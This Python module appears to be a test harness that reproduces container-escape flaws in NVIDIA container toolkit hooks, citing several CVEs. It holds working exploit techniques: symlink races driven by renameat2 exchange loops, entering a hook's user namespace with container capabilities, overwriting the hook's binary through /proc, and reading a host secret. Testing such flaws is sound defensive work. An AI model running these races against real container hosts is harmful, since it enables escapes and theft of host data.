"""What changes while a hook looks at it, and who looks at a hook."""

import ctypes
import json
import os
import pathlib
import signal
import struct
import subprocess

from world import CLONE_NEWUSER, CONTAINER_ID, LIBC, SECRET, check

AT_FDCWD, RENAME_EXCHANGE = -100, 2
MARK = b"#!/of-the-container\n"
# What a container has by default with Docker and containerd: CHOWN, DAC_OVERRIDE, FOWNER, FSETID, KILL, SETGID,
# SETUID, SETPCAP, NET_BIND_SERVICE, NET_RAW, SYS_CHROOT, MKNOD, AUDIT_WRITE, SETFCAP.
CAPABILITIES_OF_CONTAINERS = sum(1 << bit for bit in (0, 1, 3, 4, 5, 6, 7, 8, 10, 13, 18, 27, 29, 31))


class Swapping:
    """A process that exchanges two names for as long as the block lasts."""

    def __init__(self, one, other):
        self.one, self.other = os.fsencode(one), os.fsencode(other)

    def __enter__(self):
        self.process = os.fork()
        if self.process == 0:
            LIBC.prctl(1, signal.SIGKILL, 0, 0, 0)  # PR_SET_PDEATHSIG
            while True:
                LIBC.renameat2(AT_FDCWD, self.one, AT_FDCWD, self.other, RENAME_EXCHANGE)
        return self

    def stand_still(self):
        os.kill(self.process, signal.SIGSTOP)
        os.waitpid(self.process, os.WUNTRACED)

    def go_on(self):
        os.kill(self.process, signal.SIGCONT)

    def __exit__(self, *_):
        os.kill(self.process, signal.SIGKILL)
        os.waitpid(self.process, 0)


def a_folder_that_is_written_to(w):
    """CVE-2024-0133, CVE-2025-23359"""
    w.at("/usr/lib/driver").mkdir(exist_ok=True)
    (w.root / "usr/lib/other").symlink_to(w.up("/folder"))
    return (w.root / "usr/lib/driver", w.root / "usr/lib/other"), ["create-symlinks", "--link",
                                                                  "target::/usr/lib/driver/mark"]


def a_folder_of_the_loaders(w):
    """CVE-2025-23267"""
    w.at("/etc/ld.so.conf.d").mkdir(exist_ok=True)
    (w.root / "etc/other").symlink_to(w.outside)
    return (w.root / "etc/ld.so.conf.d", w.root / "etc/other"), ["update-ldcache", "--folder", "/usr/lib/driver"]


def a_folder_that_is_read(w):
    """CVE-2024-0132, CVE-2025-23359"""
    w.write("/usr/local/cuda/compat/libcuda.so.999.1", "")
    (w.root / "usr/local/cuda/other").symlink_to(w.up(""))
    return (w.root / "usr/local/cuda/compat", w.root / "usr/local/cuda/other"), [
        "enable-cuda-compat", "--host-driver-version=580.95.05"]


def the_parameters(w):
    """The folder that a hook mounts into."""
    (w.outside / "params").write_text("x")
    w.has_proc = True

    def change(driver):
        (driver / "other").symlink_to(w.outside)
    w.params = change
    w.mount_volumes()
    driver = w.root / "proc/driver"
    return (driver / "nvidia", driver / "other"), ["disable-device-node-modification"]


SWAPS = (a_folder_that_is_written_to, a_folder_of_the_loaders, a_folder_that_is_read)


def swap(w, prepare, command, rounds, before_start=None):
    """The round in which there was harm, and the harm; the number of rounds and [] when there was none."""
    names, arguments = prepare(w)
    w.settle()
    with Swapping(*names) as swapping:
        for count in range(rounds):
            w.run_directly([*command, *arguments], before_start)
            swapping.stand_still()
            harm = w.harm()
            if harm:
                return count, harm
            swapping.go_on()
    return rounds, []


class Waiting:
    """A hook that waits for its container's state: it has given up what it gives up, and touched nothing yet."""

    def __init__(self, w, command, before_start=None):
        self.w = w
        self.pipe = w.folder / "state"
        os.mkfifo(self.pipe)
        os.chown(self.pipe, w.owner, w.owner)
        self.process = subprocess.Popen([*command, "create-symlinks", f"--container-spec={self.pipe}", "--link",
                                         "target::/usr/lib/driver/mark"], stderr=subprocess.PIPE,
                                        preexec_fn=before_start)
        self.end = os.open(self.pipe, os.O_WRONLY)  # returns when the hook has opened it

    def __enter__(self):
        return self

    def status(self):
        lines = pathlib.Path(f"/proc/{self.process.pid}/status").read_text().splitlines()
        return dict(line.split(":\t", 1) for line in lines if ":\t" in line)

    def __exit__(self, *_):
        os.write(self.end, json.dumps({"id": CONTAINER_ID, "bundle": str(self.w.bundle), "root": "rootfs"}).encode())
        os.close(self.end)
        self.error = self.process.communicate()[1].decode()


def become_a_container(pid):
    """From now on this process has what a container's has, in the user namespace that process `pid` is in."""
    with open(f"/proc/{pid}/ns/user", "rb") as namespace:
        if os.stat(namespace.fileno()).st_ino != os.stat("/proc/self/ns/user").st_ino:
            check(LIBC.setns(namespace.fileno(), CLONE_NEWUSER))
            os.setresgid(0, 0, 0)
            os.setresuid(0, 0, 0)
    header = struct.pack("<Ii", 0x20080522, 0)
    sets = struct.pack("<6I", CAPABILITIES_OF_CONTAINERS, CAPABILITIES_OF_CONTAINERS, 0, 0, 0, 0)
    check(LIBC.syscall(126, ctypes.c_char_p(header), ctypes.c_char_p(sets)))


class Neighbour:
    """A process with a container's capabilities, in the PID namespace of a hook: it opens `path` while the hook is there,
    and changes what is behind it once the hook is gone; a program that runs cannot be written to."""

    def __init__(self, hook, path):
        self.asked, self.ask = os.pipe()
        self.told, tell = os.pipe()
        self.process = os.fork()
        if self.process == 0:
            os.close(self.ask)
            os.close(hook.end)  # else the hook would wait for this process's word, too
            answer = b""
            try:
                become_a_container(hook.process.pid)
                found = os.open(path, os.O_RDONLY)
                os.write(tell, b"o")
                os.read(self.asked, 1)
                with open(f"/proc/self/fd/{found}", "r+b") as file:
                    file.write(MARK)
                answer = b"c"
            except OSError:
                pass
            finally:
                os.write(tell, answer)
                os._exit(0)
        os.close(tell)
        os.close(self.asked)
        self.has_opened = os.read(self.told, 1) == b"o"

    def changes_it(self):
        """Whether it has."""
        os.close(self.ask)
        changed = os.read(self.told, 1) == b"c"
        os.waitpid(self.process, 0)
        os.close(self.told)
        return changed


def the_hooks_own_program(_, hook):
    return f"/proc/{hook.process.pid}/exe"


def a_program_of_the_host(w, hook):
    return f"/proc/{hook.process.pid}/root{w.outside}/program"


def look_as_a_container(pid, path):
    """What a neighbour of process `pid` reads at `path`; "" when it may not."""
    read_end, write_end = os.pipe()
    child = os.fork()
    if child == 0:
        text = b""
        try:
            become_a_container(pid)
            text = pathlib.Path(path).read_bytes()
        except OSError:
            pass
        finally:
            os.write(write_end, text)
            os._exit(0)
    os.close(write_end)
    with os.fdopen(read_end, "rb") as pipe:
        text = pipe.read().decode()
    os.waitpid(child, 0)
    return text


def tells_the_secret(w, hook):
    return look_as_a_container(hook.process.pid, f"/proc/{hook.process.pid}/root{w.outside}/secret") == SECRET
